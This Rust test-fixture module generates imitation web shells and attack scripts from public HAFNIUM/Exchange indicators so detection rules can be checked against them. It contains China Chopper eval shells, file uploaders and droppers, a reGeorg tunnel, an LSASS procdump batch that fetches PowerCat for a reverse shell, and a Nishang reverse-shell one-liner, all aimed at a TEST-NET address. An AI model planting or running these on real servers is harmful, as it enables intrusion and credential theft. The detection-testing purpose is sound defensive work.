//! The web shells and tool scripts planted on a compromised server, written from the public
//! descriptions (exchange-artifacts.md §1.9, §1.10, §4.1, §4.2): each carries the literals, the
//! structure and the size of its family as signature-base's `apt_hafnium.yar` and Volexity's
//! `exchange-marauder/yara.yar` describe them, so that a rule written from the same descriptions
//! matches it. None is a copy of a real sample.
//!
//! They are kept inert where that costs no documented trait: the China Chopper one-liners are the
//! advisories' own one-liners, but the larger shells never get to run a command (SPORTSBALL and
//! the custom command shell redirect the streams of a process started with `UseShellExecute =
//! true`, which .NET refuses; the reGeorg tunnel never connects its socket), and the tool scripts
//! point at TEST-NET-1 (192.0.2.0/24, RFC 5737), which routes nowhere.

/// The TEST-NET-1 address the tool scripts "call back" to.
pub(crate) const CALLBACK_IP: &str = "192.0.2.44";

/// Chopper with `eval (Request[` (a space before the parenthesis, and one after `>`), as in SB
/// `APT_WEBSHELL_HAFNIUM_Chopper_WebShell` `$s3`.
pub(crate) fn chopper_eval_space(key: &str) -> String {
    format!(
        r#"<script language="JScript" runat="server"> function Page_Load(){{eval (Request["{key}"],"unsafe");}}</script>"#
    )
}

/// Chopper on `Request.Item`, base64-wrapped: `(Request.Item[...])),"unsafe")` (CISA_10328929_01).
pub(crate) fn chopper_request_item(key: &str) -> String {
    format!(
        r#"<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["{key}"])),"unsafe");%>"#
    )
}

/// `<%@Page Language="Jscript"%>` + `.FromBase64String(` + `eval(System.Text.Encoding.`, under
/// 850 bytes (SB `APT_MAL_ASPX_HAFNIUM_Chopper_Mar21_4`).
pub(crate) fn chopper_base64_eval(key: &str) -> String {
    format!(
        "<%@Page Language=\"Jscript\"%><%var s=Request.Form[\"{key}\"];if(s!=null){{eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(s)),\"unsafe\");}}%>\r\n"
    )
}

/// `<%@ Page Language="Jscript" Debug=true%>` with `=Request.Form("` and `eval(`, under 300 bytes
/// (SB `APT_WEBSHELL_Tiny_WebShell`).
pub(crate) fn chopper_debug_form(var: &str, key: &str) -> String {
    format!(
        "<%@ Page Language=\"Jscript\" Debug=true%>\r\n<%var {var}=Request.Form(\"{key}\");eval({var},\"unsafe\");%>\r\n"
    )
}

/// The obfuscated Chopper that went into an OAB `ExternalUrl` (SB
/// `WEBSHELL_ASPX_Chopper_Like_Mar21_1`): a string array holding `'orange','unsafe'`, the usual
/// rotate-the-array wrapper, then `;eval(Request[_0x`. `ids` are four `_0x` identifiers.
pub(crate) fn chopper_obfuscated(ids: &[String; 4], rot: u32) -> String {
    let [arr, a, b, c] = ids;
    // A multiple of the array length (5) minus one: the rotation leaves the array as written,
    // so index 1 really is the key and index 2 the "unsafe" option.
    let n = rot * 5 - 1;
    format!(
        "<script language=\"JScript\" runat=\"server\">var {arr}=['Item','orange','unsafe','Request','Page_Load'];(function({a},{b}){{var {c}=function(_0x1f){{while(--_0x1f){{{a}['push']({a}['shift']());}}}};{c}(++{b});}}({arr},0x{n:x}));function Page_Load(){{var {a}={arr}[0x1];eval(Request[{a}],{arr}[0x2]);}}</script>"
    )
}

/// SecChecker: starts `<%`, under 1 KB, answers digits when an EDR agent file exists (SB
/// `APT_WEBSHELL_HAFNIUM_SecChecker_Mar21_1`; backslashes doubled as in C# source).
pub(crate) fn secchecker() -> String {
    let checks = [
        (r"c:\\program files (x86)\\fireeye\\xagt.exe", "1"),
        (r"c:\\program files\\cylance\\desktop\\cylancesvc.exe", "2"),
        (r"c:\\program files\\carbon black\\cbdefense\\repmgr.exe", "4"),
        (r"c:\\program files\\sentinelone\\sentinel agent\\sentinelagent.exe", "5"),
    ];
    let mut s = String::new();
    for (path, digit) in checks {
        s.push_str(&format!("<%if(System.IO.File.Exists(\"{path}\")){{Response.Write( \"{digit}\");}}%>"));
    }
    s.push_str("<html><head><title></title>");
    s.push_str(
        r#"<%if(System.IO.File.Exists("c:\\program files\\crowdstrike\\csfalconservice.exe")){Response.Write( "3");}%></head>"#,
    );
    s.push_str("\r\n<body></body></html>\r\n");
    s
}

/// SPORTSBALL (HYPERSHELL variant): password cookie `fqrspt`, the SHA-256 constant, command
/// execution through a process's standard input, and an upload form (Volexity
/// `apt_webshell_aspx_sportsball`, all of `$uniq*` and `$s*`). The process is configured with
/// `UseShellExecute = true` together with redirected streams, so `Start()` throws.
pub(crate) fn sportsball() -> String {
    r#"<%@ Page Language="C#" Debug="false" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Security.Cryptography" %>
<script runat="server">
    const string Key = "ZN2aDAB4rXsszEvCLrzgcvQ4oi5J1TuiRULlQbYwldE=";

    bool Authorized()
    {
        HttpCookie c = HttpContext.Current.Request.Cookies["fqrspt"];
        if (c == null) { return false; }
        using (SHA256 sha = SHA256.Create())
        {
            return Convert.ToBase64String(sha.ComputeHash(System.Text.Encoding.UTF8.GetBytes(c.Value))) == Key;
        }
    }

    protected void Page_Load(object sender, EventArgs e)
    {
        Result.InnerText = string.Empty;
        if (!string.IsNullOrEmpty(HttpContext.Current.Request.Form["pass"]))
        {
            HttpCookie newcook = new HttpCookie("fqrspt", HttpContext.Current.Request.Form["pass"]);
            newcook.Expires = DateTime.Now.AddDays(30);
            Response.Cookies.Add(newcook);
            return;
        }
        if (!Authorized()) { Response.StatusCode = 404; Response.End(); }
        if (!string.IsNullOrEmpty(HttpContext.Current.Request.Form["cmd"]))
        {
            System.Diagnostics.Process process = new System.Diagnostics.Process();
            process.StartInfo.FileName = "cmd.exe";
            process.StartInfo.UseShellExecute = true;
            process.StartInfo.RedirectStandardInput = true;
            process.StartInfo.RedirectStandardOutput = true;
            process.StartInfo.CreateNoWindow = true;
            process.Start();
            process.StandardInput.WriteLine(HttpContext.Current.Request.Form["cmd"]);
            process.StandardInput.WriteLine("exit");
            Result.InnerText = process.StandardOutput.ReadToEnd();
        }
        else if (!string.IsNullOrEmpty(HttpContext.Current.Request.Form["upath"]) && Request.Files.Count > 0)
        {
            HttpPostedFile f = Request.Files[0];
            f.SaveAs(Path.Combine(HttpContext.Current.Request.Form["upath"], Path.GetFileName(f.FileName)));
            Result.InnerText = "Uploaded: " + f.FileName;
        }
    }
</script>
<html>
<head><title>Page</title></head>
<body>
<form id="form1" method="post" enctype="multipart/form-data" runat="server">
    <input type="text" name="cmd" style="width: 600px" />
    <input type="submit" value="Run" />
    <br />
    <input type="file" name="file" />
    <input type="text" name="upath" value="C:\inetpub\wwwroot\aspnet_client\" />
    <input type="submit" value="Upload" />
    <pre id="Result" runat="server"></pre>
</form>
</body>
</html>
"#
    .replace('\n', "\r\n")
}

/// A reGeorg `tunnel.aspx` variation (Volexity `webshell_aspx_reGeorgTunnel`: all of `$s*` and all
/// of `$t*`): CONNECT / DISCONNECT / FORWARD / READ on `X-CMD`, the target base64-encoded with a
/// swapped alphabet. The socket is created but never connected.
pub(crate) fn regeorg() -> String {
    r#"<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
    public string StrTr(string input, string frm, string to)
    {
        string r = "";
        for (int i = 0; i < input.Length; i++)
        {
            int index = frm.IndexOf(input[i]);
            r += index != -1 ? to[index] : input[i];
        }
        return r;
    }

    protected void Page_Load(object sender, EventArgs e)
    {
        string en = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        string de = "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm9876543210+/";
        try
        {
            if (Request.HttpMethod != "POST")
            {
                Response.Write("Georg says, 'All seems fine'");
                return;
            }
            string cmd = Request.Headers.Get("X-CMD");
            if (cmd == "CONNECT")
            {
                string target = System.Text.Encoding.Default.GetString(Convert.FromBase64String(StrTr(Request.Headers.Get("X-TARGET"), de, en)));
                string[] parts = target.Split('|');
                string host = parts[0];
                int port = int.Parse(parts[1].Substring(0, parts[1].Length));
                IPAddress ip;
                if (!IPAddress.TryParse(host, out ip)) { ip = Dns.GetHostEntry(host).AddressList[0]; }
                Socket sock = new Socket(ip.AddressFamily, SocketType.Stream, ProtocolType.Tcp);
                Session.Add("socket", sock);
                Session.Add("target", new IPEndPoint(ip, port));
                Response.AddHeader("X-STATUS", "OK");
            }
            else if (cmd == "DISCONNECT")
            {
                Socket s = (Socket)Session["socket"];
                if (s != null) { s.Close(); }
                Session.Abandon();
                Response.AddHeader("X-STATUS", "OK");
            }
            else if (cmd == "FORWARD")
            {
                Socket s = (Socket)Session["socket"];
                byte[] buf = new byte[Request.ContentLength];
                Request.InputStream.Read(buf, 0, buf.Length);
                s.Send(buf);
                Response.AddHeader("X-STATUS", "OK");
            }
            else if (cmd == "READ")
            {
                Socket s = (Socket)Session["socket"];
                byte[] buf = new byte[513];
                int n = s.Receive(buf);
                Response.BinaryWrite(System.Text.Encoding.Default.GetBytes(StrTr(Convert.ToBase64String(buf, 0, n), en, de)));
                Response.AddHeader("X-STATUS", "OK");
            }
        }
        catch (Exception ex)
        {
            Response.AddHeader("X-ERROR", ex.Message);
            Response.AddHeader("X-STATUS", "FAIL");
        }
    }
</script>
"#
    .replace('\n', "\r\n")
}

/// SimpleSeeSharp: `<%@ Page Language="C#" %>` at offset 0, the one-statement uploader, under 1 KB
/// (Volexity `webshell_aspx_simpleseesharp`). `extra` goes between the two directives (a copy
/// with edited whitespace differs from the original only there).
pub(crate) fn simpleseesharp(extra: &str) -> String {
    format!(
        "<%@ Page Language=\"C#\" %>{extra}<%@ Import Namespace=\"System.IO\" %><% HttpPostedFile thisFile = Request.Files[0];thisFile.SaveAs(Path.Combine(Server.MapPath(\".\"), Path.GetFileName(thisFile.FileName))); %>\r\n"
    )
}

/// The StreamWriter dropper: writes a posted body to a posted path (SB
/// `APT_WEBSHELL_HAFNIUM_Chopper_WebShell` `$s2`, `WEBSHELL_ASP_Embedded_Mar21_1`,
/// CISA_10328929_01 `$s3`/`$s4`).
pub(crate) fn streamwriter() -> String {
    "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Text\" %><script runat=\"server\">protected void Page_Load(object sender, EventArgs e){System.IO.StreamWriter sw = new System.IO.StreamWriter(Request.Form[\"p\"] , false, Encoding.Default);sw.Write(Request.Form[\"f\"]);sw.Close();}</script>\r\n".into()
}

/// A C# uploader saving `Request.Files[0]` next to itself (SB `APT_MAL_ASPX_HAFNIUM_Chopper_Mar21_3`).
pub(crate) fn csharp_uploader() -> String {
    "<%@ Page Language=\"C#\" Debug=\"false\" %>\r\n<script runat=\"server\">void Page_Load(object sender, EventArgs e){if (Request.Files.Count > 0){Request.Files[0].SaveAs(Server.MapPath(\"./\" + System.IO.Path.GetFileName(Request.Files[0].FileName)));Response.Write(\"OK\");}}</script>\r\n<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\" /><input type=\"submit\" value=\"Send\" /></form>\r\n".into()
}

/// The file-explorer shell: drives from `DriveInfo.GetDrives()`, base64 paths, "Created!"
/// messages and a browser-side base64 upload (SB `WEBSHELL_ASPX_FileExplorer_Mar21_1`: starts `<%`,
/// `$x1` and more than four of the other strings).
pub(crate) fn file_explorer() -> String {
    r#"<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Text" %>
<script runat="server">
    static byte[] FromBase64String(string s) { return Convert.FromBase64String(s); }

    static string Decode(string str) { return Encoding.UTF8.GetString(FromBase64String(str.Replace(" ", "+"))); }

    string CurrentPath()
    {
        return Request.Form["p"] != null ? Decode(Request.Form["p"]) : Server.MapPath(".");
    }

    protected void Page_Load(object sender, EventArgs e)
    {
        if (!IsPostBack)
        {
            foreach (DriveInfo d in DriveInfo.GetDrives()) { drives.Items.Add(d.Name); }
        }
        string path = CurrentPath();
        listing.Text = "";
        foreach (string dir in Directory.GetDirectories(path)) { listing.Text += "[D] " + HttpUtility.HtmlEncode(dir) + "<br />"; }
        foreach (string f in Directory.GetFiles(path)) { listing.Text += HttpUtility.HtmlEncode(f) + " " + new FileInfo(f).Length + "<br />"; }
        if (Request.Form["upload"] != null)
        {
            File.WriteAllBytes(Path.Combine(path, Decode(Request.Form["name"])), FromBase64String(Request.Form["upload"]));
            message.Text = Decode(Request.Form["name"]) + " Uploaded!";
        }
    }

    protected void NewFolder_Click(object sender, EventArgs e)
    {
        Directory.CreateDirectory(Path.Combine(CurrentPath(), folderName.Text));
        message.Text = folderName.Text + " Created!";
    }

    protected void NewFile_Click(object sender, EventArgs e)
    {
        File.WriteAllText(Path.Combine(CurrentPath(), fileName.Text), "");
        message.Text = fileName.Text + " Created!";
    }
</script>
<html>
<head><title>File Explorer</title></head>
<body>
<form id="main" runat="server">
    <asp:DropDownList ID="drives" runat="server" />
    <asp:TextBox ID="folderName" runat="server" /><asp:Button ID="mkdir" runat="server" Text="New folder" OnClick="NewFolder_Click" />
    <asp:TextBox ID="fileName" runat="server" /><asp:Button ID="mkfile" runat="server" Text="New file" OnClick="NewFile_Click" />
    <span style="background-color: #778899; color: #fff; padding: 5px; cursor: pointer" onclick="pick()">Upload</span>
    <input type="file" id="picker" style="display: none" onchange="send(this.files[0])" />
    <asp:Label ID="message" runat="server" /><br />
    <asp:Literal ID="listing" runat="server" />
</form>
<script>
    function pick() { document.getElementById('picker').click(); }
    function send(file) {
        var reader = new FileReader();
        reader.onload = function () {
            var bytes = reader.result;
            var body = 'upload=' + encodeURIComponent(btoa(String.fromCharCode.apply(null, new Uint8Array(bytes))));;
            body += '&name=' + encodeURIComponent(btoa(file.name));
            var x = new XMLHttpRequest();
            x.open('POST', location.href, true);
            x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
            x.send(body);
        };
        reader.readAsArrayBuffer(file);
    }
</script>
</body>
</html>
"#
    .replace('\n', "\r\n")
}

/// A home-made command shell with none of the published literals: for the unknown-file check
/// only. `param` is the query parameter; the process is misconfigured (`UseShellExecute = true`
/// with a redirected output), so it never starts.
pub(crate) fn custom_cmd_shell(param: &str) -> String {
    format!(
        r#"<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {{
        string q = Request.QueryString["{param}"];
        if (String.IsNullOrEmpty(q)) {{ Response.StatusCode = 404; return; }}
        ProcessStartInfo si = new ProcessStartInfo("cmd.exe", "/c " + q);
        si.UseShellExecute = true;
        si.RedirectStandardOutput = true;
        using (Process p = Process.Start(si))
        {{
            Response.Write("<pre>" + Server.HtmlEncode(p.StandardOutput.ReadToEnd()) + "</pre>");
        }}
    }}
</script>
"#
    )
    .replace('\n', "\r\n")
}

/// A batch file: procdump of LSASS to `C:\windows\temp\lsass` and PowerCat fetched from GitHub
/// (SB `APT_HAFNIUM_Forensic_Artefacts_Mar21_1` `$s1`, `$s3`).
pub(crate) fn powercat_batch() -> String {
    format!(
        "@echo off\r\ncd /d C:\\root\r\nprocdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass\r\npowershell.exe -nop -w hidden -c \"IEX (New-Object System.Net.Webclient).DownloadString('https://raw.githubusercontent.com/besimorhino/powercat/master/powercat.ps1'); powercat -c {CALLBACK_IP} -p 443 -e powershell\"\r\n"
    )
}

/// Nishang's `Invoke-PowerShellTcpOneLine` reverse shell inside a function nothing calls (SB
/// `HKTL_Nishang_PS1_Invoke_PowerShellTcpOneLine`: all three strings).
pub(crate) fn nishang_oneliner() -> String {
    format!(
        "function Invoke-Update\r\n{{\r\n$client = New-Object Net.Sockets.TCPClient('{CALLBACK_IP}',443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendbyte=([text.encoding]::ASCII).GetBytes((iex $data 2>&1 | Out-String ));$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()\r\n}}\r\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sizes_and_offsets_of_the_documented_families() {
        assert!(secchecker().len() < 1024 && secchecker().starts_with("<%"));
        assert!(simpleseesharp("").len() < 1024 && simpleseesharp("\r\n").starts_with("<%@ Page Language=\"C#\" %>"));
        assert!(chopper_debug_form("a", "k").len() < 300);
        assert!(chopper_base64_eval("k").len() < 850);
        assert!(file_explorer().starts_with("<%"));
        let ids = ["_0x3f1a", "_0x2d8f", "_0x4b81", "_0x4d74"].map(String::from);
        let o = chopper_obfuscated(&ids, 3);
        assert!(
            o.contains("','orange','unsafe','")
                && o.contains(";eval(Request[_0x")
                && o.contains("));function Page_Load(){var _0x")
        );
    }
}
